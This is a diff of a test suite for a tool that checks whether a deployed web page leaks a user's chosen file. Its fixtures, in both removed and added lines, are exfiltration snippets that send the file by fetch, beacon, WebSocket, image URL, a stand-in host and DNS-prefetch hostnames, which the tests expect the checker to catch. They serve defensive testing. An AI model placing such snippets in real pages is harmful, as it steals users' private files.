@@ -10,13 +10,13 @@ import { gzipSync } from 'node:zlib';
 import { chromiumPath } from '../../tools/chromium.mjs';
 import { WORKER_POLICY } from '../../tools/serve.mjs';
 import { checkParts } from './fixtures/check-parts.mjs';
-import { formPage, serveDeployment, thief } from './fixtures/deployment.mjs';
+import { formPage, lateThief, serveDeployment, thief } from './fixtures/deployment.mjs';
 import { root } from './harness.mjs';
 
 const skip = chromiumPath() ? false : 'SKIPPED: Chromium was not found; run: tools/setup.sh browser';
 
-const { Runs, Traces, addressOf, dangerousScripts, judgePage, judgeSeal, judgeSession, localeFor, parseMeta, parsePolicies, plain, wireOf } =
-  await checkParts(...['csp', 'page-policy', 'seal-header', 'runs', 'traces', 'words', 'session', 'wire'].map((name) => `check/src/${name}`), 'pkg/src/bin/terminal');
+const { Runs, Traces, addressOf, dangerousScripts, judgePage, judgeSeal, judgeSession, localeFor, ownServers, parseMeta, parsePolicies, plain, wireOf } =
+  await checkParts(...['csp', 'page-policy', 'seal-header', 'runs', 'traces', 'words', 'addresses', 'session', 'sources', 'wire'].map((name) => `check/src/${name}`), 'pkg/src/bin/terminal');
 
 /** Starts the command with its own folder for temporary files, which must be empty afterwards. */
 async function start(args, env = {}) {
@@ -55,7 +55,11 @@ const failed = ({ findings }) => findings.filter(({ status }) => status === 'fai
 const unsure = ({ findings }) => findings.filter(({ status }) => status === 'unsure').map(({ check, reason }) => `${check}.${reason}`);
 const of = ({ findings }, check) => findings.filter((each) => each.check === check);
 
-test('a good deployment passes, is sent to, and is told so in both languages', { skip }, async () => {
+/** They start processes and mostly wait, so several run at once. */
+const commands = [];
+const slow = (...given) => commands.push(given);
+
+slow('a good deployment passes, is sent to, and is told so in both languages', { skip }, async () => {
   const { code, report, site } = await checked({}, '--submit', '#send', '--time', '5');
   assert.deepEqual([failed(report), unsure(report)], [[], []]);
   assert.equal(code, 0);
@@ -75,76 +79,41 @@ test('a good deployment passes, is sent to, and is told so in both languages', {
   await server.close();
 });
 
-test('without a browser it says what it did not look at', async () => {
+slow('without a browser it says what it did not look at', async () => {
   const { code, report } = await checked({}, '--no-browser');
   assert.deepEqual([failed(report), unsure(report), code], [[], [], 0]);
   assert.equal(report.browser, null);
   assert.ok(!report.findings.some(({ check }) => check.startsWith('session.')));
 });
 
-const flip = (bytes) => { const other = Buffer.from(bytes); other[other.length - 300] ^= 1; return other; };
-/** Also bad without a browser. */
-const SERVED = {
-  'worker without its header': [{ workerHeaders: { 'Content-Security-Policy': undefined } }, ['worker.header.missing']],
-  'worker whose header allows connections': [{ workerHeaders: { 'Content-Security-Policy': `${WORKER_POLICY}; connect-src *` } }, ['worker.header.wide']],
-  'worker whose header lacks the sandbox': [{ workerHeaders: { 'Content-Security-Policy': WORKER_POLICY.replace('; sandbox', '') } }, ['worker.header.incomplete']],
-  'worker of another type': [{ workerHeaders: { 'Content-Type': 'text/plain' } }, ['worker.type.other']],
-  'worker that may not be kept': [{ workerHeaders: { 'Cache-Control': 'no-store' } }, ['worker.cache.short']],
-  'worker with another comment': [{ change: { 'worker.js': (bytes) => Buffer.concat([bytes, Buffer.from('//')]) } }, ['worker.version.other', 'files.same.different']],
-  'page without a policy': [{ policy: () => undefined }, ['page.policy.missing']],
-  'page whose policy is in a template alone': [{
-    policy: () => undefined,
-    html: formPage({ extra: `<template><meta http-equiv="Content-Security-Policy" content="default-src 'none'"></template>` }),
-  }, ['page.policy.missing']],
-  'page that connects anywhere': [{ policy: (own) => own.replace(/connect-src [^;]*/, 'connect-src *') }, ['page.connections.wide']],
-  'page with unsafe scripts': [{ policy: (own) => own.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline' 'unsafe-eval'") }, ['page.scripts.wide']],
-  'page without any jimun': [{ html: formPage({ control: '' }).replace(/<script.*<\/script>/, '') }, ['jimun.present.missing']],
-};
-for (const [name, [bad, expected]] of Object.entries(SERVED)) {
-  test(`caught from outside: ${name}`, async () => {
-    const { code, report } = await checked(bad, '--no-browser');
-    assert.deepEqual(failed(report), expected);
-    assert.equal(code, 1);
-  });
-}
-
-const open = (own, origin) => own.replace(/connect-src [^;]*/, `connect-src 'self' ${origin.replace('http', 'ws')}`);
-const base64 = "btoa(String.fromCharCode(...new Uint8Array(await file.arrayBuffer()).subarray(0, 3000)))";
-const silent = 'session.silence.asked';
-const steals = (body, more = {}) => ({ html: formPage({ extra: thief(body) }), policy: open, ...more });
 /**
- * Which check must fail, which trace of the file it must name and in which encoding, and after how
- * many seconds.
+ * With a browser of its own for each, because its log tells of what DevTools does not show. All
+ * other deployments are in check-deployments.test.mjs.
  */
-const CAUGHT = {
-  'worker without its header': [{ workerHeaders: { 'Content-Security-Policy': undefined } }, ['worker.header.missing', 'session.seal.open', silent], undefined, '5'],
-  'a changed module': [{ change: { 'heic.wasm': flip } }, ['files.same.different']],
-  'the file sent as it is': [steals("fetch('/x', { method: 'POST', body: file });"), [silent, 'session.traces.wire'], ['content']],
-  'its bytes sent': [steals("fetch('/x', { method: 'POST', body: (await file.arrayBuffer()).slice(100, 140) });"), [silent, 'session.traces.carried'], ['content', 'raw']],
-  'base64 in JSON': [steals(`fetch('/x', { method: 'POST', body: JSON.stringify({ a: 'b', data: ${base64} }) });`), [silent, 'session.traces.carried'], ['content', 'base64']],
-  'the name in an address': [steals("fetch('/x?name=' + file.name);"), [silent, 'session.traces.carried'], ['name', 'raw']],
-  'the size and the date': [steals("fetch('/x', { method: 'POST', body: JSON.stringify([file.size, file.lastModified]) });"), [silent, 'session.traces.carried', 'session.traces.carried'], ['size', 'raw']],
-  'a beacon': [steals("navigator.sendBeacon('/x', (await file.arrayBuffer()).slice(0, 2000));"), [silent, 'session.traces.carried'], ['content', 'raw']],
-  'a WebSocket': [steals("const socket = new WebSocket(location.origin.replace('http', 'ws')); socket.onopen = async () => socket.send(await file.arrayBuffer());"), [silent, 'session.traces.carried'], ['content', 'raw']],
-  'the address of a picture': [steals(`new Image().src = '/x?d=' + encodeURIComponent(${base64});`), [silent, 'session.traces.carried'], ['content', 'base64']],
-  'a worker of the page\'s own': [steals("new Worker('/thief.js').postMessage(file);", {
-    files: { '/thief.js': "onmessage = async ({ data }) => fetch('/x', { method: 'POST', body: (await data.arrayBuffer()).slice(0, 5000) });" },
-  }), [silent, 'session.traces.carried'], ['content', 'raw']],
-  'what the page\'s policy stops': [steals("new Image().src = 'https://elsewhere.invalid/?name=' + file.name;", { policy: (own) => own }), ['session.traces.stopped'], ['name', 'raw']],
-  'the name kept in localStorage': [steals("localStorage.setItem('last', file.name);"), ['session.storage.kept'], ['name']],
-  'the file kept in IndexedDB': [steals("const open = indexedDB.open('x'); open.onupgradeneeded = () => open.result.createObjectStore('y').add(new Blob([file]), 1);"), ['session.storage.kept'], ['content']],
+const BY_LOG = {
+  'a worker without its header': [{ workerHeaders: { 'Content-Security-Policy': undefined } }, ['worker.header.missing', 'worker.returning.stuck', 'session.seal.open', 'session.silence.asked'], [], ['--time', '5']],
+  'the file sent as it is': [
+    { html: formPage({ extra: thief("fetch('/x', { method: 'POST', body: file });") }), policy: (own) => own.replace(/connect-src [^;]*/, "connect-src 'self'") },
+    ['session.silence.asked', 'session.traces.wire'], [], [],
+  ],
+  'a beacon of the page that goes': [
+    { html: formPage({ extra: lateThief("addEventListener('pagehide', () => navigator.sendBeacon('/x', hidden));") }), policy: (own) => own.replace(/connect-src [^;]*/, "connect-src 'self'") },
+    [], ['session.open.missed'], ['--submit', '#send'],
+  ],
+  'names that are only looked up, which no policy stops': [
+    { html: formPage({ extra: lateThief("for (let at = 0; at < 60; at += 20) document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${[...hidden.subarray(at, at + 20)].map((byte) => byte.toString(16)).join('')}.invalid` }));") }) },
+    [], ['session.requests.looked'], ['--wait', '#ready'],
+  ],
 };
-for (const [name, [bad, expected, trace, time = '1']] of Object.entries(CAUGHT)) {
-  test(`caught in the browser: ${name}`, { skip }, async () => {
-    const { code, report } = await checked(bad, '--time', time);
-    assert.deepEqual([failed(report), unsure(report)], [expected, []]);
-    assert.equal(code, 1);
-    const named = report.findings.filter(({ check, status }) => status === 'fail' && /traces|storage/.test(check));
-    if (trace) assert.ok(named.some(({ values }) => trace.every((each) => Object.values(values).some((value) => String(value).split(',').includes(each)))), JSON.stringify(named));
+for (const [name, [bad, expected, open, args]] of Object.entries(BY_LOG)) {
+  slow(`caught by the browser's log: ${name}`, { skip }, async () => {
+    const { code, report } = await checked(bad, ...args);
+    assert.deepEqual([failed(report), unsure(report)], [expected, open]);
+    assert.equal(code, expected.length > 0 ? 1 : 4);
   });
 }
 
-test('a file input that would send the file is caught when the form is sent', { skip }, async () => {
+slow('a file input that would send the file is caught when the form is sent', { skip }, async () => {
   const { code, report, site } = await checked({ html: formPage({ control: '<input type="file" name="picture">' }) }, '--submit', '#send');
   assert.equal(code, 1);
   assert.ok(site.received.length === 1 && site.received[0].length > 50_000);
@@ -152,18 +121,18 @@ test('a file input that would send the file is caught when the form is sent', { 
   assert.match(of(report, 'session.traces')[0].values.urls, /\/sent$/);
 });
 
-test('a page with nothing to choose is not passed', { skip }, async () => {
+slow('a page with nothing to choose is not passed', { skip }, async () => {
   const { code, report } = await checked({ html: '<!doctype html><title>empty</title>' });
   assert.equal(code, 1);
   assert.deepEqual([failed(report), unsure(report)], [['jimun.present.missing'], ['session.choose.noInput']]);
 });
 
-test('a file of one\'s own is chosen under another name, and nothing of its name is said', { skip }, async () => {
+slow('a file of one\'s own is chosen under another name, and nothing of its name is said', { skip }, async () => {
   const folder = await mkdtemp(join(tmpdir(), 'check-file-'));
   const path = join(folder, 'very-private.jpg');
   try {
     await writeFile(path, await readFile(`${root}tests/images/sklearn_china.jpg`));
-    const site = await serveDeployment(steals("fetch('/x?name=' + file.name);"));
+    const site = await serveDeployment({ html: formPage({ extra: thief("fetch('/x?name=' + file.name);") }), policy: (own) => own.replace(/connect-src [^;]*/, "connect-src 'self'") });
     const { code, out, err } = await run(site.origin, '--file', path, '--time', '1', '--json');
     await site.close();
     assert.equal(code, 1);
@@ -177,7 +146,7 @@ test('a file of one\'s own is chosen under another name, and nothing of its name
   }
 });
 
-test('what cannot be checked has codes of its own', async () => {
+slow('what cannot be checked has codes of its own', async () => {
   const { origin, close } = await serveDeployment();
   await close();
   const down = await run(origin, '--no-browser', '--json');
@@ -194,7 +163,7 @@ test('what cannot be checked has codes of its own', async () => {
   assert.deepEqual([help.code, /종료 코드/.test(help.out)], [0, true]);
 });
 
-test('interrupted, it takes the browser and the profile with it', { skip }, async () => {
+slow('interrupted, it takes the browser and the profile with it', { skip }, async () => {
   const site = await serveDeployment();
   const { child, temporary, ended } = await start([site.origin]);
   while (!(await readdir(temporary)).some((name) => name.startsWith('jimun-check-'))) await new Promise((resolve) => { setTimeout(resolve, 20); });
@@ -205,7 +174,10 @@ test('interrupted, it takes the browser and the profile with it', { skip }, asyn
   assert.deepEqual([code, left], [130, []]);
 });
 
-const judged = (text) => judgePage(parsePolicies(text), false).filter(({ status }) => status === 'fail').map(({ word }) => word);
+test('the command', { concurrency: 3 }, (t) => Promise.all(commands.map((given) => t.test(...given))));
+
+const governed = (policies, reportOnly = false) => judgePage({ url: 'https://portal.example/', policies, reportOnly, sendsTo: [], sandbox: undefined }, ownServers('https://portal.example/', []));
+const judged = (text) => governed(parsePolicies(text)).filter(({ status }) => status === 'fail').map(({ word }) => word);
 
 test('page policies are judged by what they let out', () => {
   const good = "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'";
@@ -224,7 +196,7 @@ test('page policies are judged by what they let out', () => {
   assert.deepEqual(judged(`connect-src *, ${good}`), [], 'of several policies all must allow');
   assert.deepEqual(judged(`connect-src 'self'; connect-src *; ${good}`), [], 'the first of one name counts');
   assert.deepEqual(judged("script-src 'self'").sort(), ['page.base.missing', 'page.connections.missing', 'page.forms.missing', 'page.resources.wide']);
-  assert.deepEqual(judgePage([], true).map(({ word }) => word), ['page.policy.reportOnly']);
+  assert.deepEqual(governed([], true).map(({ word }) => word), ['page.policy.reportOnly']);
   assert.deepEqual(parseMeta('sandbox; report-uri /x'), [], 'not heeded in a meta element');
   assert.ok(judged(`\u00a0${good}`).includes('page.resources.wide'), 'a blank that browsers do not know is part of the name');
   assert.deepEqual(dangerousScripts(["'self'", "'wasm-unsafe-eval'", '*.example.org']), []);
@@ -312,12 +284,14 @@ test('the browser\'s log is a second witness, also when it is cut off', async ()
   const event = (type, source, params, phase = 1) => JSON.stringify({ type, phase, time: '1500', source: { id: source }, params });
   const url = 'https://portal.example/asked';
   const lines = [
-    '{"constants": {"logEventTypes": {"SOCKET_BYTES_SENT": 1, "URL_REQUEST_START_JOB": 2, "HTTP_TRANSACTION_SEND_REQUEST": 3}, "timeTickOffset": 1000},',
+    '{"constants": {"logEventTypes": {"SOCKET_BYTES_SENT": 1, "URL_REQUEST_START_JOB": 2, "HTTP_TRANSACTION_SEND_REQUEST": 3, "HOST_RESOLVER_MANAGER_REQUEST": 4}, "timeTickOffset": 1000},',
     '"events": [', ...[
       event(1, 7, { bytes: Buffer.from('first half, ').toString('base64') }),
       event(2, 8, { url, initiator: 'https://portal.example' }), event(3, 8, {}), event(3, 8, {}, 2),
       event(2, 9, { url: 'https://portal.example/cached', initiator: 'https://portal.example' }),
       event(2, 10, { url: 'https://maker.example/', initiator: 'not an origin' }), event(3, 10, {}),
+      event(4, 11, { host: 'https://looked.example', network_anonymization_key: 'https://portal.example same_site' }),
+      event(4, 12, { host: 'https://maker.example', network_anonymization_key: 'null' }),
       event(1, 7, { bytes: Buffer.from('second half').toString('base64') }),
     ].map((line) => `${line},`), '{"type": 2, "par',
   ];
@@ -325,17 +299,20 @@ test('the browser\'s log is a second witness, also when it is cut off', async ()
   const wire = await wireOf(join(folder, 'log'));
   assert.equal(wire.bytes[0].toString(), 'first half, second half');
   assert.deepEqual(wire.asked, [{ url, atMs: 2500 }]);
+  assert.deepEqual(wire.looked, [{ server: 'https://looked.example', site: 'https://portal.example' }]);
   assert.equal(await wireOf(join(folder, 'none')), undefined);
   await rm(folder, { recursive: true });
 
   const visit = {
     browser: 'x', failure: undefined, file: { bytes: randomBytes(99), stem: 'abcdefgh', modified: new Date() }, requests: [], sent: [],
-    control: { element: 1 }, state: { states: ['done'], records: 1, seal: 'sealed' }, done: true, kept: [], shut: [], wire,
+    control: { element: 1 }, state: { states: ['done'], records: 1, seal: 'sealed', texts: [] }, done: true, kept: [], shut: [], wire,
+    refusals: [], cookies: [], targets: [], frames: [], texts: new Map(), before: undefined, after: undefined,
   };
-  const said = (watched) => judgeSession({ ...visit, watched }, true).filter(({ status }) => status !== 'pass').map(({ word }) => word);
+  const ground = { isPortal: () => true, isOwn: () => true, modules: new Set(), worker: undefined };
+  const said = (watched) => judgeSession({ ...visit, watched }, true, ground).filter(({ status }) => status !== 'pass').map(({ word }) => word);
   assert.deepEqual(said({ fromMs: 2000, untilMs: 3000 }), ['session.open.missed', 'session.silence.asked']);
   assert.deepEqual(said({ fromMs: 2600, untilMs: 3000 }), ['session.open.missed']);
-  assert.deepEqual(judgeSession({ ...visit, watched: { fromMs: 0, untilMs: 0 }, wire: undefined }, true).filter(({ status }) => status !== 'pass'), []);
+  assert.deepEqual(judgeSession({ ...visit, watched: { fromMs: 0, untilMs: 0 }, wire: undefined }, true, ground).filter(({ status }) => status !== 'pass'), []);
 });
 
 test('nothing that a server says steers the terminal, and addresses are said without what they may carry', () => {
